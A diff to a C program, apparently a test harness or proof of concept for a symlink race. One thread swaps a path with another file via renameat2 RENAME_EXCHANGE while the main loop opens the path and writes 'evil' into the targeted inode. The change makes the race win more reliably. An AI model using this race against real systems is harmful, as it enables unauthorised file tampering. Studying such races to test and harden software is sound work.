@@ -11,12 +11,14 @@
 #include <sys/stat.h>
 
 static char good[4096], bad[4096], path[4096];
-static volatile int stop;
+static volatile int running, stop;
 
 static void *swap(void *unused) {
     (void)unused;
-    while (!stop)
+    while (!stop) {
         syscall(SYS_renameat2, AT_FDCWD, path, AT_FDCWD, bad, 2 /* RENAME_EXCHANGE */);
+        running = 1;
+    }
     return NULL;
 }
 
@@ -36,8 +38,10 @@ int main(int argc, char **argv) {
         stopped_at("symlink");
     pthread_t thread;
     pthread_create(&thread, NULL, swap, NULL);
+    while (!running)
+        usleep(100);
     int hits = 0;
-    for (int i = 0; i < atoi(argv[3]); i++) {
+    for (int i = 0; i < atoi(argv[3]) || (hits == 0 && i < 100 * atoi(argv[3])); i++) {
         int fd = open(path, O_WRONLY);
         if (fd >= 0 && fstat(fd, &got) == 0 && got.st_ino == wanted.st_ino && write(fd, "evil\n", 5) == 5)
             hits++;
